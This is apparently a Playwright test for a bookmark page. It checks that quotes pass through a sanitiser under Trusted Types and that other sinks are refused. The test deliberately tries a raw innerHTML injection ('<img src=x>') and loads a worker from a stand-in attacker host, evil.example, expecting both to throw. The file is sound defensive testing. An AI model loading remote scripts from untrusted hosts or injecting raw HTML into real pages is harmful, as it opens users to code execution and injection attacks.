import { expect, test } from './fixtures';

// The two sinks the test writes to on purpose are refused, and say so in the console.
test.use({ allowedProblems: /TrustedHTML|TrustedScriptURL|No script of|trusted-types-sink/ });

test('under Trusted Types quotes are formatted, and any other HTML or foreign worker is refused', async ({
  page,
}) => {
  await page.goto('/zh/spaces/bookmark');
  // A quote with a link reaches the page through the sanitiser and its Trusted Types policy.
  const source = page.getByRole('main').getByRole('link', { name: '《道德经》' });
  await expect(source).toHaveAttribute('target', '_blank');
  await expect(page.getByRole('main').locator('figure strong').first()).toBeVisible();
  const refused = await page.evaluate(() => {
    const attempts: Record<string, () => void> = {
      html: () => {
        document.createElement('div').innerHTML = '<img src=x>';
      },
      worker: () => void new Worker('https://evil.example/worker.js'),
    };
    return Object.fromEntries(
      Object.entries(attempts).map(([sink, attempt]) => {
        try {
          attempt();
          return [sink, 'allowed'];
        } catch (error) {
          return [sink, (error as Error).name];
        }
      }),
    );
  });
  expect(refused).toEqual({ html: 'TypeError', worker: 'TypeError' });
});
